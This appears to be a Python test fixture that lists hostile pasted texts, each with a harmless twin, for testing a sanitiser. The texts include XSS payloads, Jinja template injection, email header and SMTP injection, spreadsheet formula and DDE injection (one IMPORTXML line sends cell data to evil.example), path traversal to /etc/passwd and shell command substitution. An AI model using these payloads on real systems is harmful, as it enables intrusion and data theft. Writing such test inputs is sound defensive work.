"""Texts that were pasted to do harm, each with its harmless twin. Import it as `tests.hostile.texts`.

What belongs here: the texts. Where they are put is `tests.hostile.town`, what must not come of them
`tests.hostile.hits`.
"""

from collections.abc import Mapping

LONG = 10_000

TEXTS: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "single quote": "' onmouseover='alert(1)' x='",
    "tag cut off": "<b",
    "entity": "&lt;b&gt;&#60;i&#62;&amp;",
    "closes everything": "</td></tr></table></svg></style></title></body></html>",
    "style": "</style><style>*{display:none}@import 'http://evil.example/x.css'",
    "css": "x;background:url(//evil.example/x);expression(alert(1))",
    "svg": "<svg/onload=alert(1)><use href=//evil.example/x>",
    "comment": "--><!-- x --!> ]]> <![CDATA[",
    "conditional comment": "<!--[if mso]><x><![endif]-->",
    "base": "<base href=//evil.example/><meta http-equiv=refresh content=0>",
    "json breaks out": '"}],"x":[{"y":"\\',
    "header": "x\r\nBcc: evil@example.com\r\n\r\n<b>x</b>",
    "header with line feed": "x\nX-Evil: 1",
    "header with other line ends": "x\u2028Bcc: e@example.com\u2029\x85\x0b\x0cX-Evil: 1",
    "encoded word": "=?utf-8?q?x=0D=0ABcc:_evil@example.com?=",
    "encoded word in base64": "=?utf-8?b?PGI+DQpCY2M6IGU=?=",
    "address": "a@example.com, b <c@example.com>; (d)",
    "boundary": "--=_x\r\nContent-Type: text/html",
    "lone dot": "\r\n.\r\nMAIL FROM:<e@example.com>",
    "jinja expression": "{{ 7 * 7 }}{{ config }}",
    "jinja statement": "{% for x in y %}{% endfor %}{# x #}",
    "jinja inside": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "wording": "{municipality} {0} %s %(n)d $x ${x}",
    "mathtext": "$\\frac{1}{2}$ \\alpha_x^y",
    "formula": "=1+1",
    "formula with plus": "+1+1",
    "formula with minus": "-1+1",
    "formula with at": "@SUM(A1)",
    "formula behind a tab": "\t=1+1",
    "formula behind a line end": "\r=1+1",
    "dde": "=cmd|'/C calc'!A0",
    "web formula": '=IMPORTXML(CONCAT("//evil.example?",A1),"//a")',
    "hyperlink formula": '=HYPERLINK("//evil.example","x")',
    "full-width formula": "＝1+1",
    "right to left": "\u202egnp.exe\u202c",
    "isolates": "\u2066x\u2067y\u2068z",
    "marks": "\u200e\u200f\u061cx",
    "nul": "nul\x00x",
    "controls": "a\x01\x07\x08\x1b\x7f\x9bx",
    "terminal colour": "\x1b[31mx\x1b[0m\x1b]0;x\x07",
    "terminal, one byte": "\x9b31mx\x9d0;x\x9c",
    "rich markup": "[red]x[/red][/][link=//evil.example]",
    "lone surrogate": "x\ud83dy\udc00",
    "noncharacters": "x\ufffe\uffff\ufff9y",
    "script link": "javascript:alert(1)",
    "data link": "data:text/html;base64,PHNjcmlwdD4=",
    "mail link": "mailto:e@example.com?bcc=f@example.com&body=x",
    "https link": 'https://evil.example/" onclick=alert(1) <x>',
    "file link": "file:///etc/passwd ../../../etc/passwd",
    "path": "../../../../x\\..\\CON.txt",
    "shell": "$(id);`id`|id&&id",
    "long": "x" * LONG,
    "long with blanks": "<b> " * (LONG // 4),
    "long word": "Donaudampfschifffahrt" * 12,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1e9\U0001f1ea",
    "scripts": "漢字 عربى ﷽ עברית ไทย",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg",
    "accents": "e" + "\u0301" * 60,
    "ligatures": "ﬁﬂ ß ẞ İı ŉ ǰ",
    "number": "1e309",
    "blank": "\u00a0\u3000\u2003",
}
"""By what is wrong with them."""

_KEPT = frozenset(";,/@:.- ")
"""What also a harmless text may hold, and what decides how it is read: as several names, as a link, as an address."""

_VANISHES = frozenset("\u00ad\u200b\u200e\u200f\u2060\u2061\u2062\u2063\u2064\ufeff\u202a\u202b\u202c\u202d\u202e")


def harmless(text: str) -> str:
    """Return a text of the same words and the same length as the sheet's readers see it, in letters."""
    return "".join(_plain(character) for character in text if character not in _VANISHES)


def _plain(character: str) -> str:
    if character.isspace() or character < " " or "\x7f" <= character <= "\x9f":
        return " "
    return character if character in _KEPT or character.isalnum() else "x"


def marked(text: str, marker: str) -> str:
    """Return the text with a marker that tells where it stood: behind it where a reader who cuts comes so far."""
    return f"{text} {marker}" if len(text) < 40 else f"{marker} {text}"
